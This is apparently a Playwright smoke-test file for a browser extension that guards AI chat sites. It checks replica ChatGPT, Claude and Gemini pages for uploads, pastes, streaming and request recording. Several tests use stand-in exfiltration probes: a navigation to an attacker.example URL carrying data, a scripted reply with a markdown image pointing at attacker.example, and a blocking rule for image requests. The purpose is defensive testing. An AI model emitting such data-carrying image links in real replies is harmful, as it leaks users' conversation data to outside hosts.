// Smoke tests for the harness itself: each replica's real editor, backend recording and streamed reply, with the
// extension loaded. Guard behaviour is tested elsewhere; these must keep passing as the guard lands.

import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, expect, MANAGED_POLICY_FILE, TEST_EXTENSION_ID, splitInside } from './fixtures';
import { EXTENSION_DIR } from './support/chromium';
import type { ChatSitePage } from './pages';

/** Whether the built manifest has a content script for the host (the guard scripts land one site at a time). */
function builtContentScriptFor(host: string): boolean {
  const manifest = JSON.parse(readFileSync(join(EXTENSION_DIR, 'manifest.json'), 'utf8')) as { content_scripts?: { matches?: string[] }[] };
  return (manifest.content_scripts ?? []).some((script) => script.matches?.some((match) => match.includes(host)));
}

/** Records the assistant text each time it changes, to prove a reply renders while it streams. */
async function watchAssistantText(site: ChatSitePage): Promise<() => Promise<string[]>> {
  await site.page.evaluate((selector) => {
    const seen: string[] = [];
    (window as unknown as { __seenReplies: string[] }).__seenReplies = seen;
    new MutationObserver(() => {
      const bodies = document.querySelectorAll<HTMLElement>(selector);
      const text = bodies[bodies.length - 1]?.textContent ?? '';
      if (text && seen.at(-1) !== text) seen.push(text);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  }, site.selectors.assistantBody);
  return () => site.page.evaluate(() => (window as unknown as { __seenReplies: string[] }).__seenReplies);
}

test.describe('fresh browser', () => {
  test.use({ reuseBrowser: false });

  test.describe('under managed policy', { tag: '@managed-policy' }, () => {
    const policy = { vaultRetentionHours: 7, userMayPause: false };
    test.use({ managedPolicy: policy });

    test('the test build loads with its pinned id and the policy file reaches chrome.storage.managed', async ({ extensionId, serviceWorker }) => {
      expect(extensionId).toBe(TEST_EXTENSION_ID);
      expect(serviceWorker.url()).toContain(`chrome-extension://${TEST_EXTENSION_ID}/`);
      expect(existsSync(MANAGED_POLICY_FILE)).toBe(true);
      type ManagedArea = { storage: { managed: { get(): Promise<Record<string, unknown>> } } };
      const managed = await serviceWorker.evaluate(() => (globalThis as unknown as { chrome: ManagedArea }).chrome.storage.managed.get());
      expect(managed).toEqual(policy);
    });
  });

  test('the policy file is removed when that browser closes', () => {
    expect(existsSync(MANAGED_POLICY_FILE)).toBe(false);
  });
});

// The rest share one browser: faster, and none of them depends on extension state.
test.use({ reuseBrowser: true });

test.describe('harness', () => {
  test('loads the test build of the extension with its pinned id', async ({ extensionId, serviceWorker }) => {
    expect(extensionId).toBe(TEST_EXTENSION_ID);
    expect(serviceWorker.url()).toContain(`chrome-extension://${TEST_EXTENSION_ID}/`);
  });

  for (const [site, host] of [['chatgpt', 'chatgpt.com'], ['claude', 'claude.ai'], ['gemini', 'gemini.google.com']] as const) {
    test(`the guard's content script marks the ${site} page`, async ({ sites }) => {
      test.fixme(!builtContentScriptFor(host), `no content script for ${host} in the build yet`);
      const page = await sites[site].goto();
      await expect(page.locator('html')).toHaveAttribute('data-chatwarden-guard', site);
    });
  }

  test('other hosts are answered and recorded by the harness, never fetched from the network', async ({ page, recorder }) => {
    await page.goto('https://attacker.example/landing?d=harness-probe');
    expect(recorder.external().map((request) => request.url)).toContain('https://attacker.example/landing?d=harness-probe');
    expect(() => recorder.assertNoneContain(['harness-probe'])).toThrow(/harness-probe.*attacker\.example/);
  });

  test('a request the extension blocks with declarativeNetRequest never reaches the recorder', async ({ sites, recorder, serviceWorker }) => {
    type Dnr = { declarativeNetRequest: { updateSessionRules(update: object): Promise<void> } };
    const ruleId = 987_654; // far from any id the extension uses; removed again below
    const updateRules = (update: object) =>
      serviceWorker.evaluate((u) => (globalThis as unknown as { chrome: Dnr }).chrome.declarativeNetRequest.updateSessionRules(u), update);
    await updateRules({
      addRules: [{ id: ruleId, priority: 1, action: { type: 'block' }, condition: { requestDomains: ['blocked.example'], resourceTypes: ['image'] } }],
    });
    try {
      const chatgpt = sites.chatgpt;
      await chatgpt.goto();
      // The control image is on ChatGPT's own content host, which the extension's exfiltration rules allow.
      chatgpt.scriptNextReply(['![a](https://blocked.example/a.png?d=1) ![b](https://files.oaiusercontent.com/b.png?d=2)']);
      await chatgpt.sendMessage('images please');
      await chatgpt.waitForReply();
      await expect.poll(() => recorder.external().map((request) => request.url)).toContain('https://files.oaiusercontent.com/b.png?d=2');
      expect(recorder.external().map((request) => request.url)).not.toContain('https://blocked.example/a.png?d=1');
    } finally {
      await updateRules({ removeRuleIds: [ruleId] });
    }
  });
});

test.describe('ChatGPT replica', () => {
  test('a typed message goes out as parts, the draft goes out on /prepare, and the streamed reply renders', async ({ sites, recorder }) => {
    const chatgpt = sites.chatgpt;
    await chatgpt.goto();
    await chatgpt.typeMessage('first line of harness-smoke\nsecond line');
    expect(await chatgpt.editorStateText()).toBe('first line of harness-smoke\nsecond line');

    // Debounced draft preflight while the user is still typing.
    const prepare = await recorder.waitFor({ site: 'chatgpt', kind: 'prepare' });
    expect(recorder.decodedText(prepare).join('\n')).toContain('harness-smoke');
    expect(JSON.parse(prepare.body)).toMatchObject({ client_prepare_source: 'composer_editor_state', partial_query: { author: { role: 'user' } } });

    await chatgpt.send();
    const reply = await chatgpt.waitForReply();
    const sent = recorder.last({ site: 'chatgpt', kind: 'conversation' })!;
    expect(recorder.decodedText(sent)).toEqual(['first line of harness-smoke\nsecond line']);
    expect(JSON.parse(sent.body)).toMatchObject({ action: 'next', parent_message_id: 'client-created-root', supported_encodings: ['v1'] });
    expect(reply).toBe('You said: first line of harness-smoke\nsecond line');
    expect(await chatgpt.lastUserText()).toBe('first line of harness-smoke\nsecond line');
    expect(await chatgpt.editorStateText()).toBe('');
    await expect(chatgpt.sendButton()).toBeVisible();
    expect(new URL(chatgpt.page.url()).pathname).toMatch(/^\/c\/[0-9a-f-]{36}$/);
    expect(recorder.allOutboundText()).toContain('second line');
  });

  test('both message markups render, and the click on send works like Enter', async ({ sites }) => {
    const chatgpt = sites.chatgpt;
    await chatgpt.gotoWithMarkup('list');
    await chatgpt.sendMessage('list markup', { via: 'click' });
    expect(await chatgpt.waitForReply()).toBe('You said: list markup');
    await expect(chatgpt.page.locator('li[data-message-role="assistant"] .markdown')).toHaveText('You said: list markup');

    await chatgpt.gotoWithMarkup('classic');
    await chatgpt.sendMessage('classic markup');
    expect(await chatgpt.waitForReply()).toBe('You said: classic markup');
    await expect(chatgpt.page.locator('article[data-testid^="conversation-turn-"] [data-message-author-role="assistant"] .markdown')).toHaveText('You said: classic markup');
  });

  test('files: uploads go to /backend-api/files and the send references them', async ({ sites, recorder }) => {
    const chatgpt = sites.chatgpt;
    await chatgpt.goto();
    await chatgpt.uploadFiles([{ name: 'notes.txt', content: 'uploaded-file-body' }]);
    await chatgpt.dropFiles([{ name: 'dropped.md', mimeType: 'text/markdown', content: 'dropped-file-body' }]);
    await expect(chatgpt.attachmentChips()).toHaveCount(2);
    await recorder.waitFor({ site: 'chatgpt', kind: 'files' }, { count: 2 });
    await chatgpt.sendMessage('see attached');
    await chatgpt.waitForReply();
    const uploads = recorder.all({ site: 'chatgpt', kind: 'files' }).flatMap((request) => recorder.decodedText(request));
    expect(uploads).toEqual(expect.arrayContaining(['uploaded-file-body', 'dropped-file-body']));
    const message = JSON.parse(recorder.last({ kind: 'conversation' })!.body).messages[0];
    expect(message.metadata.attachments.map((a: { name: string }) => a.name)).toEqual(['notes.txt', 'dropped.md']);
    expect(message.metadata.attachments[0].id).toMatch(/^file-/);
  });
});

test.describe('Claude replica', () => {
  test('a typed message goes out as the prompt and the streamed reply renders', async ({ sites, recorder }) => {
    const claude = sites.claude;
    await claude.goto();
    await claude.sendMessage('hello from harness-smoke');
    const reply = await claude.waitForReply();
    const completion = recorder.last({ site: 'claude', kind: 'completion' })!;
    expect(JSON.parse(completion.body)).toMatchObject({ prompt: 'hello from harness-smoke', rendering_mode: 'messages', attachments: [] });
    expect(reply).toBe('You said: hello from harness-smoke');
    await expect(claude.page.locator('[data-testid="assistant-message"]')).toHaveAttribute('data-is-streaming', 'false');
    expect(new URL(claude.page.url()).pathname).toMatch(/^\/chat\/[0-9a-f-]{36}$/);
    expect(completion.url).toContain(new URL(claude.page.url()).pathname.slice('/chat/'.length));
  });

  test('a long paste becomes an attachment sent as extracted_content; short pastes stay inline', async ({ sites, recorder }) => {
    const claude = sites.claude;
    await claude.goto();
    const longText = `LONG-PASTE-START ${'lorem ipsum '.repeat(400)} LONG-PASTE-END`;
    await claude.pasteText(longText);
    await expect(claude.attachmentChips()).toHaveCount(1);
    expect(await claude.editorStateText()).toBe('');
    await claude.pasteText('short paste');
    expect(await claude.editorStateText()).toBe('short paste');
    await claude.uploadFiles([{ name: 'report.csv', mimeType: 'text/csv', content: 'a,b\n1,2' }]);
    await claude.send();
    await claude.waitForReply();
    const body = JSON.parse(recorder.last({ kind: 'completion' })!.body);
    expect(body.prompt).toBe('short paste');
    expect(body.attachments.map((a: { extracted_content: string }) => a.extracted_content)).toEqual([longText, 'a,b\n1,2']);
    expect(recorder.decodedText(recorder.last({ kind: 'completion' })!)).toEqual(['short paste', longText, 'a,b\n1,2']);
  });
});

test.describe('Gemini replica', () => {
  test('a typed message goes out in f.req inner[0][0] by XHR and the cumulative reply renders', async ({ sites, recorder }) => {
    const gemini = sites.gemini;
    await gemini.goto();
    await gemini.typeMessage('gemini harness-smoke\nwith two lines');
    expect(await gemini.editorStateText()).toBe('gemini harness-smoke\nwith two lines');
    await gemini.send({ via: 'click' });
    const reply = await gemini.waitForReply();
    const request = recorder.last({ site: 'gemini', kind: 'stream-generate' })!;
    expect(request.resourceType).toBe('xhr');
    expect(request.url).toMatch(/StreamGenerate\?bl=.*&_reqid=\d+&rt=c$/);
    expect(new URLSearchParams(request.body).get('at')).toBeTruthy();
    expect(recorder.decodedText(request)).toEqual(['gemini harness-smoke\nwith two lines']);
    expect(reply).toBe('You said: gemini harness-smoke\nwith two lines');
    expect(new URL(gemini.page.url()).pathname).toMatch(/^\/app\/[0-9a-f]+$/);
  });

  test('dropped and uploaded text files are sent with the prompt', async ({ sites, recorder }) => {
    const gemini = sites.gemini;
    await gemini.goto();
    await gemini.dropFiles([{ name: 'dropped.txt', content: 'gemini-dropped-body' }]);
    await gemini.uploadFiles([{ name: 'picked.txt', content: 'gemini-picked-body' }]);
    await expect(gemini.attachmentChips()).toHaveCount(2);
    await gemini.sendMessage('two files');
    await gemini.waitForReply();
    expect(recorder.decodedText(recorder.last({ kind: 'stream-generate' })!)).toEqual(['two files', 'gemini-dropped-body', 'gemini-picked-body']);
  });
});

test.describe('all replicas', () => {
  for (const site of ['chatgpt', 'claude', 'gemini'] as const) {
    test(`${site}: Enter during IME composition does not send; Shift+Enter makes a new line`, async ({ sites, recorder }) => {
      const chat = sites[site];
      await chat.goto();
      await chat.typeMessage('kanji');
      // The event sequence an IME produces when Enter confirms a candidate (the editors track compositionstart/end).
      await chat.editor().evaluate((editor) => {
        editor.dispatchEvent(new CompositionEvent('compositionstart', { data: '', bubbles: true }));
        editor.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', code: 'Enter', isComposing: true, bubbles: true, cancelable: true }));
        editor.dispatchEvent(new CompositionEvent('compositionend', { data: '', bubbles: true }));
      });
      await chat.page.keyboard.press('Shift+Enter');
      await chat.page.keyboard.type('next');
      expect(await chat.editorStateText()).toBe('kanji\nnext');
      expect(recorder.all({ site, method: 'POST' }).filter((request) => request.kind !== 'prepare')).toEqual([]);
      await chat.send();
      expect(await chat.waitForReply()).toBe('You said: kanji\nnext');
    });
  }
});

test.describe('reply scripting', () => {
  for (const site of ['chatgpt', 'claude', 'gemini'] as const) {
    test(`${site}: a scripted reply streams chunk by chunk, split inside a placeholder`, async ({ sites }) => {
      const chat = sites[site];
      await chat.goto();
      const replyText = 'Contact [EMAIL_1] now. Then run `ls`.\n\n![x](https://attacker.example/p.png)';
      const [head, tail] = splitInside(replyText, '[EMAIL_1]');
      chat.scriptNextReply([head!, tail!], { delayMs: 200 });
      const seen = await watchAssistantText(chat);
      await chat.sendMessage('anything');
      await expect(chat.stopButton()).toBeVisible();
      await chat.waitForReply();
      const texts = await seen();
      expect(texts).toContain('Contact [EMA');
      expect(texts.at(-1)).toBe('Contact [EMAIL_1] now. Then run ls.');
      await expect(chat.assistantMessages().last().locator('code')).toHaveText('ls');
      await expect(chat.assistantMessages().last().locator('img')).toHaveAttribute('src', 'https://attacker.example/p.png');
      await expect(chat.stopButton()).toBeHidden();
    });
  }
});

test('stop ends a streaming reply on every replica', async ({ sites }) => {
  for (const chat of [sites.chatgpt, sites.claude, sites.gemini]) {
    await chat.goto();
    chat.scriptNextReply(['first part. ', 'second part. ', 'third part. ', 'fourth part.'], { delayMs: 300 });
    await chat.sendMessage('stop me');
    await expect(chat.assistantMessages().last()).toContainText('first part.');
    await chat.stopButton().click();
    await chat.waitForReply();
    expect(await chat.lastAssistantText(), chat.site).not.toContain('fourth part.');
    await expect(chat.sendButton()).toBeVisible();
  }
});
